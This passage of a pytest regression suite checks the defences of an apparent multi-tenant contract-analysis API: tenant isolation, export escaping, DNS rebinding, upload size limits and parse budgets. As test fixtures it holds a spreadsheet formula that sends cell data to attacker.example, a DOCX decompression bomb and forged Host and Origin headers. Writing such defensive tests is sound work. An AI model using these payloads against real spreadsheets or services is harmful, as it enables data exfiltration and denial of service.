        assert beta.get("/v1/contracts/nda").json()["manifest"]["content_sha256"] == first_sha(pdf)
        done = wait_job(beta, job)
        assert done["status"] == "done" and done["result"]["version"] == 2
        detail = beta.get("/v1/contracts/nda").json()
        assert [(v["version"], v["live"]) for v in detail["versions"]] == [(1, False), (2, True)]
        # version 1's evidence still resolves in version 1
        old_text = beta.get("/v1/contracts/nda/text", params={"version": 1}).json()["text"]
        verifier = QuoteVerifier(old_text)
        for evidence in row["result"]["evidence"]:
            assert verifier.is_at(evidence["quote"], tuple(evidence["span"]))
            start, end = evidence["span"]
            shown = beta.get("/v1/contracts/nda/highlight", params={"start": start, "end": end, "version": 1})
            assert shown.status_code == 200 and shown.json()["boxes"]
        # nothing leaked: not the job, its events, nor the other tenant
        seen = [
            beta.get(f"/v1/jobs/{job}").text,
            *(d for _e, d in sse_events(beta.get(f"/v1/jobs/{job}/events"))),
        ]
        assert not any(str(data) in text for text in seen)
        assert "requeued" in beta.get(f"/v1/jobs/{job}/events").text
        with httpx.Client(base_url=beta.base_url, headers=_bearer(key_acme), timeout=60) as acme:
            assert acme.get("/v1/contracts").json() == []
            assert acme.get(f"/v1/jobs/{job}").status_code == 404
        assert not [p for p in (data / "tenants" / "beta" / "uploads").rglob("*") if p.is_file()]
        assert not list((data / "tenants" / "beta" / "contracts" / "nda" / "versions").glob(".staging-*"))
    finally:
        server.stop()


def _bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def _restart(server, key: str) -> httpx.Client:
    server.start()
    return httpx.Client(base_url=f"http://127.0.0.1:{server.port}", timeout=120, headers=_bearer(key))


def first_sha(content: bytes) -> str:
    import hashlib

    return hashlib.sha256(content).hexdigest()


def test_exported_cells_that_start_like_a_formula_stay_text(hostile: Hostile) -> None:
    """A hypothesis (and so its row) starting with "=HYPERLINK(" was a live formula in the XLSX
    export and raw in the CSV one (a spreadsheet runs it when the file is opened)."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    with hostile.client("acme") as acme:
        created = acme.post(
            "/v1/checks", json={"contracts": ["acme-secret"], "hypotheses": [formula, "+1+1 is two"]}
        )
        assert created.status_code == 202, created.text
        job = wait_job(acme, created.json()["id"])
        csv_text = acme.get(f"/v1/jobs/{job['id']}/result", params={"format": "csv"}).text
        xlsx = acme.get(f"/v1/jobs/{job['id']}/result", params={"format": "xlsx"}).content
    assert f"'{formula}".replace('"', '""') in csv_text and "'+1+1 is two" in csv_text
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    written = [cell for cell in cells if formula in cell.value]
    assert written and all(cell.data_type == "s" for cell in written)
    assert not any(cell.data_type == "f" for cell in cells)


def test_names_that_keep_no_ascii_get_ids_of_their_own(hostile: Hostile) -> None:
    """Names of only non-Latin letters or symbols all became the id "contract" (and names sharing
    their ASCII part one id): each now gets a hash of its own name."""
    body = NDA.encode()
    with hostile.client("beta") as beta:
        ids = []
        for name in ("契約.txt", "合同.txt", "%%%.txt", "NDA 契約.txt", "NDA 合同.txt"):
            upload = beta.post(
                "/v1/contracts", files={"file": (name, body.replace(b"MUTUAL", name.encode()))}
            )
            assert upload.status_code == 202, upload.text
            assert wait_job(beta, upload.json()["job"]["id"])["status"] == "done"
            ids.append(upload.json()["contract_id"])
    assert len(set(ids)) == 5 and all(i.startswith(("contract-", "nda-")) for i in ids)


def test_two_different_files_at_once_under_one_id_the_second_is_409(hostile: Hostile) -> None:
    """Both were accepted (202) before either was ingested; the later ingest then failed."""
    first, second = NDA.encode(), AMENDED.encode()
    with hostile.client("beta") as beta:
        slow = beta.post("/v1/contracts", files={"file": ("race.txt", first)})
        racing = beta.post("/v1/contracts", files={"file": ("race.txt", second)})
        assert slow.status_code == 202, slow.text
        assert racing.status_code == 409, racing.text
        assert "being ingested" in error_of(racing)["message"] and "contract_id" in error_of(racing)["hint"]
        assert wait_job(beta, slow.json()["job"]["id"])["status"] == "done"
        again = beta.post("/v1/contracts", files={"file": ("race.txt", second)}, data={"new_version": "true"})
        assert again.status_code == 202
        assert wait_job(beta, again.json()["job"]["id"])["status"] == "done"
    assert hostile.uploads("beta") == []


def test_hypotheses_out_of_bounds_and_event_ids_past_the_end_are_answered(hostile: Hostile) -> None:
    """An empty or 2,001-character hypothesis was a 500; a Last-Event-ID past a finished job's
    last event held the stream open for ever, and a 20-digit one overflowed (500)."""
    with hostile.client("acme") as acme:
        for hypothesis in ("", "x" * 2001):
            refused = acme.post("/v1/checks", json={"contracts": ["acme-secret"], "hypotheses": [hypothesis]})
            assert refused.status_code == 422, refused.text
            assert error_of(refused)["hint"]
        created = acme.post("/v1/checks", json={"contracts": ["acme-secret"], "hypotheses": [SURVIVAL]})
        job = wait_job(acme, created.json()["id"])
        with acme.stream("GET", f"/v1/jobs/{job['id']}/events") as response:
            last = sse_events(response)
        assert last[-1][0] == "result"
        for resume in ("1000000", "99999999999999999999"):
            started = time.monotonic()
            with acme.stream(
                "GET", f"/v1/jobs/{job['id']}/events", headers={"Last-Event-ID": resume}
            ) as response:
                assert response.status_code == 200 and sse_events(response) == []
            assert time.monotonic() - started < 10
        assert acme.get(f"/v1/jobs/{job['id']}/events", params={"after": 10**20}).status_code == 422


def _raw_response(url: str, head: str) -> tuple[int, float]:
    """The status a request's head alone gets (:func:`status_of_head`), and how long it took."""
    started = time.monotonic()
    return status_of_head(url, head), time.monotonic() - started


def test_a_body_is_not_read_before_the_key_and_the_announced_size_are_checked(hostile: Hostile) -> None:
    """A 256 MB multipart body with no key was buffered before the 401, and with a key a 300 MB
    upload was spooled before the file limit applied: both now end on the headers alone."""
    host = hostile.live.url.removeprefix("http://")
    upload = "POST /v1/contracts HTTP/1.1\nHost: {host}\nContent-Type: multipart/form-data; boundary=b\n"
    no_key = upload.format(host=host) + f"Content-Length: {256 * 1024 * 1024}\n"
    assert _raw_response(hostile.live.url, no_key)[0] == 401
    keyed = upload.format(host=host) + f"Authorization: Bearer {hostile.keys['acme']}\n"
    status, seconds = _raw_response(hostile.live.url, keyed + f"Content-Length: {300 * 1024 * 1024}\n")
    assert status == 413 and seconds < 5
    invalid = upload.format(host=host) + "Authorization: Bearer not-a-key\n"
    assert _raw_response(hostile.live.url, invalid + "Content-Length: 100000\n")[0] == 401


def test_an_upload_that_announces_no_size_is_stopped_at_the_limit_as_it_streams(hostile: Hostile) -> None:
    """A 315 MB upload sent chunked (no Content-Length) was spooled whole before its 413: its bytes
    are now counted as they arrive and the server answers once the file limit (2 MB here) and the
    form's allowance are passed, keeping nothing."""
    status, sent = status_of_chunked_upload(hostile.live.url, hostile.keys["acme"], 315 * 1024 * 1024)
    assert status == 413, sent
    assert int(sent.split()[1]) < 20 * 1024 * 1024  # answered long before the end (it had all 315 MB)
    assert not hostile.uploads("acme")
    with hostile.client("acme") as acme:  # the server goes on answering, the key too
        assert acme.get("/v1/contracts").status_code == 200


@pytest.fixture(scope="module")
def keyless(hub, tmp_path_factory: pytest.TempPathFactory):
    """A single-user server with no keys, on loopback (the mode DNS rebinding aims at)."""
    settings = service_settings(tmp_path_factory.mktemp("keyless"))
    with LiveServer(
        create_app(settings, runtime_factory=scripted_runtimes(HostileScript()), hub=hub)
    ) as live:
        yield live


def test_a_foreign_host_is_refused_and_a_cross_site_post_changes_nothing(keyless: LiveServer) -> None:
    """With no keys, ``Host: attacker.example`` was answered with contract text and a cross-site
    form POST ingested a planted contract."""
    with keyless.client() as client:
        rebound = client.get("/v1/contracts", headers={"Host": "attacker.example"})
        assert rebound.status_code == 421 and error_of(rebound)["code"] == "host_not_allowed"
        assert "allowed_hosts" in error_of(rebound)["hint"]
        port = keyless.url.rsplit(":", 1)[1]
        assert client.get("/v1/contracts", headers={"Host": f"localhost:{port}"}).status_code == 200
        assert client.get("/", headers={"Host": "attacker.example"}).status_code == 421
        planted = {"file": ("planted.txt", NDA.encode())}
        for origin in ("http://attacker.example", "null", f"http://127.0.0.1:{int(port) + 1}"):
            refused = client.post("/v1/contracts", files=planted, headers={"Origin": origin})
            assert refused.status_code == 403 and error_of(refused)["code"] == "cross_origin_refused"
        assert client.get("/v1/contracts").json() == []
        own_page = client.post("/v1/contracts", files=planted, headers={"Origin": keyless.url})
        assert own_page.status_code == 202
        assert wait_job(client, own_page.json()["job"]["id"])["status"] == "done"
        reading = client.get("/v1/contracts/planted/text", headers={"Origin": "http://attacker.example"})
        assert reading.status_code == 200  # a read; the browser keeps it from the other site (no CORS)


def test_every_transport_holds_free_text_to_the_same_bounds(hostile: Hostile) -> None:
    """MCP's search_contract ran a 3.5 MB query for 51 s and its check_hypothesis took any text;
    the chat endpoint accepted a 1 MB system message. REST refused all three."""
    huge = "law " * 900_000
    calls = [
        ("search_contract", {"contract": "acme-secret", "query": huge}),
        ("check_hypothesis", {"contract": "acme-secret", "hypothesis": "x" * 2001}),
        ("check_hypothesis", {"contract": "acme-secret", "hypothesis": "  "}),
    ]
    started = time.monotonic()
    _, results = asyncio.run(_mcp(hostile.live.url, hostile.keys["acme"], calls))
    assert time.monotonic() - started < 20
    said = [" ".join(c.text for c in result.content) for result in results]
    assert all(result.is_error for result in results), said
    assert "question_too_long" in said[0] or "over the" in said[0]
    assert all("hypothesis is 5 to 2,000 characters" in text for text in said[1:])
    with hostile.client("acme") as acme:
        chat = acme.post(
            "/v1/chat/completions",
            json={
                "model": "clausewise/acme-secret",
                "messages": [
                    {"role": "system", "content": "Be brief. " * 100_000},
                    {"role": "user", "content": "Which law governs?"},
                ],
            },
        )
        assert chat.status_code == 422 and error_of(chat)["code"] == "instructions_too_long"
        rest = acme.post(
            "/v1/contracts/acme-secret/ask", json={"question": "Law?", "instructions": "x" * 5001}
        )
        assert rest.status_code == 422


def test_a_revoked_key_ends_the_streams_it_opened(hostile: Hostile) -> None:
    """After `clausewise keys revoke`, an events stream opened before kept streaming the whole
    report; now it ends with an error event within seconds, and the job is not cancelled."""
    keys = KeyStore.of(service_settings(hostile.data))
    info, key = keys.create("beta", "revoked while streaming")
    asked = {"question": "Answer slowly: which law governs?", "stream": True, "turns": 3}
    with (
        hostile.live.client(key) as client,
        client.stream("POST", "/v1/contracts/mutual-nda/ask", json=asked) as running,
    ):
        job = running.headers["x-job-id"]
        with client.stream("GET", f"/v1/jobs/{job}/events") as following:
            lines = following.iter_lines()
            assert any(line.startswith("event:") for line in lines)  # the stream is live
            keys.revoke(info.id)
            revoked_at = time.monotonic()
            rest = list(lines)
        ended = time.monotonic() - revoked_at
        events = [line[6:].strip() for line in rest if line.startswith("event:")]
        assert events[-1] == "error" and "result" not in events, events
        assert any("invalid_api_key" in line for line in rest) and ended < 5
        asked_events = [line[6:].strip() for line in running.iter_lines() if line.startswith("event:")]
        assert asked_events[-1] == "error"  # the ask's own stream, opened with the same key
    with hostile.client("beta") as beta:
        assert wait_job(beta, job)["status"] == "done"  # access ended, not the work


def test_a_huge_pdf_page_is_served_as_a_bounded_image(hostile: Hostile) -> None:
    """The image of a 14,400 pt page at the viewer's default scale was a 500."""
    from PIL import Image

    with pymupdf.open() as document:
        page = document.new_page(width=14400, height=14400)
        page.insert_text((72, 144), "This Agreement is governed by the laws of England.", fontsize=48)
        data = document.tobytes()
    with hostile.client("acme") as acme:
        job = acme.post("/v1/contracts", files={"file": ("poster.pdf", data)}).json()["job"]
        assert wait_job(acme, job["id"])["status"] == "done"
        image = acme.get("/v1/contracts/poster/pages/1/image")
        assert image.status_code == 200 and image.headers["content-type"] == "image/png"
        shown = Image.open(io.BytesIO(image.content))
        assert shown.width == shown.height and shown.width * shown.height <= 12_000_000


@pytest.fixture(scope="module")
def budgeted(hub, tmp_path_factory: pytest.TempPathFactory):
    """Two tenants on a server that reads a Word file for at most one second and 3 MB of XML, and
    draws a page image in at most one second of CPU time."""
    data = tmp_path_factory.mktemp("budgeted")
    settings = service_settings(
        data,
        parsing={"max_parse_seconds": 1.0, "max_unpacked_mb": 3},
        service={"page_image_cpu_seconds": 1.0},
    )
    keys = KeyStore.of(settings)
    issued = {tenant: keys.create(tenant, "tests")[1] for tenant in ("acme", "beta")}
    app = create_app(settings, runtime_factory=scripted_runtimes(HostileScript()), hub=hub)
    with LiveServer(app) as live:
        yield live, issued, data


def test_a_file_slow_to_read_is_refused_in_budget_and_another_tenant_is_not_stalled(budgeted) -> None:
    """Seven parallel uploads of a Word file built to be slow to read made the other tenant's
    replay of a finished job take 66 s, and a DOCX bomb held a core for minutes and stayed on
    disk: reading now has its own threads and a time budget (422, file deleted), and a file
    whose XML unpacks past the size limit is refused before it is read (413)."""
    live, keys, data = budgeted
    slow = word_file_with(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 40_000)
    with live.client(keys["beta"]) as beta:
        job = beta.post("/v1/contracts", files={"file": ("mutual-nda.txt", NDA.encode())}).json()["job"]
        assert wait_job(beta, job["id"])["status"] == "done"
        replays: list[float] = []
        statuses: list[int] = []

        def upload() -> None:
            with live.client(keys["acme"]) as acme:
                refused = acme.post("/v1/contracts", files={"file": ("padded.docx", slow)})
                statuses.append(refused.status_code)
                assert error_of(refused)["hint"]

        uploads = [threading.Thread(target=upload) for _ in range(7)]
        for thread in uploads:
            thread.start()
        while any(thread.is_alive() for thread in uploads):
            started = time.monotonic()
            assert sse_events(beta.get(f"/v1/jobs/{job['id']}/events"))[-1][0] == "result"
            replays.append(time.monotonic() - started)
        for thread in uploads:
            thread.join()
    assert statuses == [422] * 7, statuses
    assert len(replays) >= 3 and max(replays) < 2.0, replays  # (it was 66 s)
    assert not [p for p in (data / "tenants" / "acme" / "uploads").rglob("*") if p.is_file()]
    bomb = word_file_with(b"<w:p/>" * 600_000)  # 3.6 MB of XML in a few kilobytes (3 allowed)
    with live.client(keys["acme"]) as acme:
        refused = acme.post("/v1/contracts", files={"file": ("bomb.docx", bomb)})
        assert refused.status_code == 413 and "unpacks to" in error_of(refused)["message"]


def test_a_page_slow_to_draw_is_refused_in_budget_and_other_pages_are_still_drawn(budgeted) -> None:
    """Page images were drawn on the server's threads, with Python's lock held: a page built to be
    slow to draw held every request back for as long as it took. It is drawn in a worker process
    now, refused (422) past its CPU time, and the pages after it are drawn by a new worker."""
    live, keys, _data = budgeted
    with live.client(keys["acme"]) as acme, live.client(keys["beta"]) as beta:
        for client, name, content in (
            (acme, "strokes.pdf", slow_to_draw_pdf()),
            (beta, "paged-nda.pdf", (EXAMPLES / "mutual-nda.pdf").read_bytes()),
        ):
            job = client.post("/v1/contracts", files={"file": (name, content)}).json()["job"]
            assert wait_job(client, job["id"])["status"] == "done"
        for _attempt in range(2):  # (the second is drawn, and refused, by the worker after the first)
            refused = acme.get("/v1/contracts/strokes/pages/1/image")
            assert refused.status_code == 422 and error_of(refused)["code"] == "too_costly_to_draw"
            assert "text" in error_of(refused)["hint"]
        drawn = beta.get("/v1/contracts/paged-nda/pages/2/image")
        assert drawn.status_code == 200 and drawn.content.startswith(b"\x89PNG")
        assert acme.get("/v1/contracts/strokes/text").status_code == 200


def test_tenants_take_turns_in_the_queue_and_see_only_their_own_positions(tmp_path: Path) -> None:
    """One FIFO queue let one tenant queue hundreds of jobs ahead of everyone, and a queued job's
    position counted other tenants' jobs (an oracle of their activity)."""
    store = JobStore(tmp_path / "jobs.sqlite")
    try:
        flood = [store.create("acme", "ask", {"n": n}, max_queued=200).id for n in range(5)]
        late = store.create("beta", "ask", {"n": 0}, max_queued=200)
        assert late.queue_position == 1  # acme's five waiting jobs are not counted, nor shown
        assert [store.get("acme", j).queue_position for j in flood] == [1, 2, 3, 4, 5]
        order = []
        while (job := store.claim()) is not None:
            order.append((job.tenant, job.request["n"]))
            store.finish(job.id, "done", result={})
        assert order[:3] == [("acme", 0), ("beta", 0), ("acme", 1)]  # beta's job goes second
        assert [n for tenant, n in order if tenant == "acme"] == [0, 1, 2, 3, 4]  # in order within
    finally:
        store.close()


def test_a_batch_with_one_bad_file_keeps_the_good_files_rows(hostile: Hostile) -> None:
    """A data room holding one file that cannot be read lost the good file's row."""
    files = [
        ("files", ("good-nda.txt", NDA.encode())),
        ("files", ("broken.docx", b"PK\x03\x04 not a zip at all")),
    ]
    with hostile.client("acme") as acme:
        created = acme.post("/v1/batches", data={"kind": "check", "suite": "nda"}, files=files)
        assert created.status_code == 202, created.text
        job = wait_job(acme, created.json()["id"])
        assert job["status"] == "done", job
        rows = acme.get(f"/v1/jobs/{job['id']}/result").json()["rows"]
    good = [r for r in rows if r.get("file_name") == "good-nda.txt" or r.get("contract_id") == "good-nda"]
    bad = [r for r in rows if r.get("error")]
    assert good and all(r.get("result") for r in good), rows
    assert len(bad) == 1 and "broken.docx" in json.dumps(bad[0]) and bad[0]["error"]
